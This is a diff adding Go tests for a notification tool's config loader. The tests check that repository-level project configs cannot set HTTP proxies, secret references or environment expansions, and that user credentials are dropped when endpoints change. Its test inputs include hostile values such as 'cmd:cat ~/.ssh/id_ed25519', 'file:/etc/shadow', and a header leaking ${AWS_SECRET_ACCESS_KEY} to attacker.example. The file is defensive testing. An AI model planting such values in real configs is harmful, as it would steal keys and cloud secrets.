@@ -0,0 +1,360 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("create dir: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("write %s: %v", path, err)
+	}
+}
+
+func TestFindProjectConfig_WalksUp(t *testing.T) {
+	root := t.TempDir()
+	repo := filepath.Join(root, "repo")
+	writeFile(t, filepath.Join(repo, ProjectConfigName), "sound:\n  enabled: false\n")
+	nested := filepath.Join(repo, "pkg", "sub")
+	if err := os.MkdirAll(nested, 0o755); err != nil {
+		t.Fatalf("create dir: %v", err)
+	}
+
+	path, ok := FindProjectConfig(nested)
+	if !ok || path != filepath.Join(repo, ProjectConfigName) {
+		t.Errorf("FindProjectConfig() = %q, %v; want the repo's config", path, ok)
+	}
+	if _, ok := FindProjectConfig(root); ok {
+		t.Error("FindProjectConfig() found a config above the repo")
+	}
+}
+
+func TestLoadWithOptions_LayersProjectConfig(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "config.yaml")
+	writeFile(t, userPath, `ntfy:
+  enabled: true
+  topic: mine
+  priority_map:
+    high: max
+idle:
+  threshold_seconds: 120
+`)
+	repo := filepath.Join(dir, "client-repo")
+	projectPath := filepath.Join(repo, ProjectConfigName)
+	writeFile(t, projectPath, `ntfy:
+  enabled: false
+  priority_map:
+    low: min
+teams:
+  enabled: true
+  webhook_url: https://example.com/workflow
+idle:
+  threshold_seconds: 30
+`)
+
+	result, err := LoadWithOptions(LoadOptions{
+		ExplicitPath: userPath,
+		ProjectDir:   filepath.Join(repo, "src"),
+		LookupEnv:    lookupFrom(map[string]string{"DING_DING_IDLE_THRESHOLD_SECONDS": "600"}),
+	})
+	if err != nil {
+		t.Fatalf("LoadWithOptions() error = %v", err)
+	}
+
+	cfg := result.Config
+	if cfg.Ntfy.Enabled || cfg.Ntfy.Topic != "mine" {
+		t.Errorf("ntfy enabled/topic = %v/%q, want project to disable and keep the user topic", cfg.Ntfy.Enabled, cfg.Ntfy.Topic)
+	}
+	if cfg.Ntfy.PriorityMap["high"] != "max" || cfg.Ntfy.PriorityMap["low"] != "min" {
+		t.Errorf("ntfy.priority_map = %v, want user and project entries merged", cfg.Ntfy.PriorityMap)
+	}
+	if !cfg.Teams.Enabled {
+		t.Error("teams not enabled by the project config")
+	}
+	if cfg.Idle.ThresholdSeconds != 600 {
+		t.Errorf("idle.threshold_seconds = %d, want the environment to win over the project", cfg.Idle.ThresholdSeconds)
+	}
+
+	var got []string
+	for _, source := range result.Sources {
+		got = append(got, string(source.Type)+" "+source.Path)
+	}
+	want := []string{"explicit-flag " + userPath, "project " + projectPath}
+	if !slices.Equal(got, want) {
+		t.Errorf("Sources = %v, want %v", got, want)
+	}
+}
+
+func TestWithProject_DoesNotModifyBaseConfig(t *testing.T) {
+	repo := t.TempDir()
+	writeFile(t, filepath.Join(repo, ProjectConfigName), "webhook:\n  priority_map:\n    urgent: P1\n")
+
+	base := LoadResult{Config: DefaultConfig()}
+	base.Config.Webhook.PriorityMap = map[string]string{"high": "P2"}
+	layered, err := base.WithProject(repo, lookupFrom(nil))
+	if err != nil {
+		t.Fatalf("WithProject() error = %v", err)
+	}
+	if len(layered.Config.Webhook.PriorityMap) != 2 {
+		t.Errorf("layered priority_map = %v, want both entries", layered.Config.Webhook.PriorityMap)
+	}
+	if len(base.Config.Webhook.PriorityMap) != 1 {
+		t.Errorf("base priority_map was modified: %v", base.Config.Webhook.PriorityMap)
+	}
+}
+
+func TestWithProject_Restrictions(t *testing.T) {
+	tests := []struct {
+		name    string
+		project string
+		want    string
+	}{
+		{
+			name:    "section not allowed",
+			project: "server:\n  address: 0.0.0.0:80\n",
+			want:    "server cannot be set in a project config",
+		},
+		{
+			name:    "backend http override",
+			project: "ntfy:\n  http:\n    proxy: http://attacker.example:8080\n    insecure_skip_verify: true\n",
+			want:    "ntfy.http cannot be set in a project config",
+		},
+		{
+			name:    "secret reference",
+			project: "ntfy:\n  token: \"cmd:cat ~/.ssh/id_ed25519\"\n",
+			want:    "ntfy.token cannot use a secret reference",
+		},
+		{
+			name:    "secret reference in a header",
+			project: "webhook:\n  headers:\n    X-Key: \"file:/etc/shadow\"\n",
+			want:    "webhook.headers.X-Key cannot use a secret reference",
+		},
+		{
+			name:    "environment expansion in a header",
+			project: "webhook:\n  url: https://attacker.example/hook\n  headers:\n    X-Leak: \"${AWS_SECRET_ACCESS_KEY}\"\n",
+			want:    "webhook.headers.X-Leak cannot use ${...} environment expansion",
+		},
+		{
+			name:    "environment expansion in the signing secret",
+			project: "webhook:\n  secret: \"s-${HOME}\"\n",
+			want:    "webhook.secret cannot use ${...} environment expansion",
+		},
+		{
+			name:    "merge key",
+			project: "ntfy:\n  <<: {token: \"cmd:touch /tmp/pwned\", http: {proxy: \"http://evil:3128\", insecure_skip_verify: true}}\n",
+			want:    "<< merge keys cannot be used in a project config",
+		},
+		{
+			name:    "alias",
+			project: "x: &creds\n  token: \"cmd:touch /tmp/pwned\"\nntfy: *creds\n",
+			want:    "anchors cannot be used in a project config",
+		},
+		{
+			name:    "alias without a visible anchor section",
+			project: "ntfy: &n\n  topic: t\nwebhook:\n  <<: *n\n",
+			want:    "anchors cannot be used in a project config",
+		},
+		{
+			name:    "invalid result",
+			project: "teams:\n  enabled: true\n",
+			want:    "teams.webhook_url is required",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			repo := t.TempDir()
+			writeFile(t, filepath.Join(repo, ProjectConfigName), tt.project)
+
+			_, err := LoadResult{Config: DefaultConfig()}.WithProject(repo, lookupFrom(nil))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("WithProject() error = %v, want %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckProject(t *testing.T) {
+	problems := CheckProject([]byte(`teams:
+  enabled: true
+logging:
+  level: debug
+ntfy:
+  token: env:TOKEN
+  http:
+    ca_file: /tmp/attacker.pem
+webhook:
+  headers:
+    Authorization: "Bearer ${N8N_TOKEN}"
+    X-Template: "literal:${NAME}"
+`))
+	var got []string
+	for _, problem := range problems {
+		got = append(got, problem.String())
+	}
+	want := []string{
+		"line 3: logging cannot be set in a project config (allowed: " + strings.Join(ProjectSections, ", ") + ")",
+		"line 6: ntfy.token cannot use a secret reference in a project config",
+		"line 7: ntfy.http cannot be set in a project config",
+		"line 11: webhook.headers.Authorization cannot use ${...} environment expansion in a project config",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("CheckProject() =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+func TestCheckProject_MergeKeyAndAlias(t *testing.T) {
+	problems := CheckProject([]byte(`base: &base
+  token: "cmd:touch /tmp/pwned"
+ntfy:
+  <<: *base
+  http:
+    proxy: http://evil:3128
+`))
+	var got []string
+	for _, problem := range problems {
+		got = append(got, problem.String())
+	}
+	for _, want := range []string{
+		"line 1: anchors cannot be used in a project config",
+		"line 4: << merge keys cannot be used in a project config",
+		"line 4: aliases cannot be used in a project config",
+		"line 5: ntfy.http cannot be set in a project config",
+		"ntfy.token cannot use a secret reference in a project config",
+	} {
+		if !slices.Contains(got, want) {
+			t.Errorf("CheckProject() = %q, want it to contain %q", got, want)
+		}
+	}
+}
+
+func TestProjectChangeProblems_ChecksDecodedConfig(t *testing.T) {
+	base := DefaultConfig()
+	base.Ntfy.Token = "env:NTFY_TOKEN"
+
+	cfg := base
+	cfg.Ntfy.Token = "cmd:touch /tmp/pwned"
+	cfg.Ntfy.HTTP.Proxy = "http://evil:3128"
+	cfg.Webhook.Headers = map[string]string{"X-Leak": "${AWS_SECRET_ACCESS_KEY}"}
+	cfg.Server.Address = "0.0.0.0:80"
+	cfg.Ntfy.Topic = "fine"
+
+	var got []string
+	for _, problem := range projectChangeProblems(cfg, base) {
+		got = append(got, problem.String())
+	}
+	want := []string{
+		"ntfy.http cannot be set in a project config",
+		"ntfy.token cannot use a secret reference in a project config",
+		"server cannot be set in a project config (allowed: " + strings.Join(ProjectSections, ", ") + ")",
+		"webhook.headers.X-Leak cannot use ${...} environment expansion in a project config",
+	}
+	slices.Sort(got)
+	if !slices.Equal(got, want) {
+		t.Errorf("projectChangeProblems() =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+
+	if problems := projectChangeProblems(base, base); len(problems) != 0 {
+		t.Errorf("projectChangeProblems() = %v for an unchanged config, want none", problems)
+	}
+}
+
+func TestWithProject_MovedEndpointDropsUserCredentials(t *testing.T) {
+	base := LoadResult{Config: DefaultConfig()}
+	base.Config.Ntfy.Token = "tk_user"
+	base.Config.Webhook.URL = "https://hooks.example.com/in"
+	base.Config.Webhook.Headers = map[string]string{"Authorization": "Bearer user"}
+	base.Config.Webhook.Secret = "user-signing-secret"
+	base.Config.Email.Password = "user-password"
+	base.Config.MQTT.Password = "user-mqtt-password"
+
+	repo := t.TempDir()
+	writeFile(t, filepath.Join(repo, ProjectConfigName), `ntfy:
+  server: https://ntfy.attacker.example
+webhook:
+  url: https://collector.example/in
+  secret: project-secret
+email:
+  security: none
+mqtt:
+  username: project-bot
+`)
+	layered, err := base.WithProject(repo, lookupFrom(map[string]string{"DING_DING_NTFY_TOKEN": "tk_env"}))
+	if err != nil {
+		t.Fatalf("WithProject() error = %v", err)
+	}
+
+	cfg := layered.Config
+	if cfg.Ntfy.Token != "" {
+		t.Errorf("ntfy.token = %q, want it dropped when the project moves the server", cfg.Ntfy.Token)
+	}
+	if len(cfg.Webhook.Headers) != 0 || cfg.Webhook.Secret != "project-secret" {
+		t.Errorf("webhook headers/secret = %v/%q, want user headers dropped and the project secret kept", cfg.Webhook.Headers, cfg.Webhook.Secret)
+	}
+	if cfg.MQTT.Password != "user-mqtt-password" {
+		t.Errorf("mqtt.password = %q, want it kept when the broker is unchanged", cfg.MQTT.Password)
+	}
+	if cfg.Email.Password != "" {
+		t.Errorf("email.password = %q, want it dropped when the project disables TLS", cfg.Email.Password)
+	}
+	if want := []string{"email.password", "ntfy.token", "webhook.headers"}; !slices.Equal(layered.DroppedFields, want) {
+		t.Errorf("DroppedFields = %v, want %v", layered.DroppedFields, want)
+	}
+}
+
+func TestWithProject_ChangedAudienceDropsUserCredentials(t *testing.T) {
+	base := LoadResult{Config: DefaultConfig()}
+	base.Config.Ntfy.Topic = "mine"
+	base.Config.Ntfy.Token = "tk_user"
+	base.Config.Email.Host = "smtp.example.com"
+	base.Config.Email.Username = "me"
+	base.Config.Email.Password = "user-password"
+	base.Config.Email.From = "me@example.com"
+	base.Config.Email.To = []string{"me@example.com"}
+	base.Config.MQTT.Username = "me"
+	base.Config.MQTT.Password = "user-mqtt-password"
+
+	tests := []struct {
+		name    string
+		project string
+		dropped string
+	}{
+		{name: "ntfy topic", project: "ntfy:\n  topic: attacker-reads-this\n", dropped: "ntfy.token"},
+		{name: "ntfy email", project: "ntfy:\n  email: attacker@example.com\n", dropped: "ntfy.token"},
+		{name: "email to", project: "email:\n  to: [victim@example.org]\n", dropped: "email.password"},
+		{name: "email from", project: "email:\n  from: ceo@example.com\n", dropped: "email.password"},
+		{name: "mqtt topic", project: "mqtt:\n  topic: attacker/inbox\n", dropped: "mqtt.password"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			repo := t.TempDir()
+			writeFile(t, filepath.Join(repo, ProjectConfigName), tt.project)
+
+			layered, err := base.WithProject(repo, lookupFrom(nil))
+			if err != nil {
+				t.Fatalf("WithProject() error = %v", err)
+			}
+			if want := []string{tt.dropped}; !slices.Equal(layered.DroppedFields, want) {
+				t.Errorf("DroppedFields = %v, want %v", layered.DroppedFields, want)
+			}
+		})
+	}
+
+	// Restating the user's own values is not a change.
+	repo := t.TempDir()
+	writeFile(t, filepath.Join(repo, ProjectConfigName), "ntfy:\n  topic: mine\nemail:\n  to: [me@example.com]\n")
+	layered, err := base.WithProject(repo, lookupFrom(nil))
+	if err != nil {
+		t.Fatalf("WithProject() error = %v", err)
+	}
+	if len(layered.DroppedFields) != 0 {
+		t.Errorf("DroppedFields = %v, want none for unchanged values", layered.DroppedFields)
+	}
+}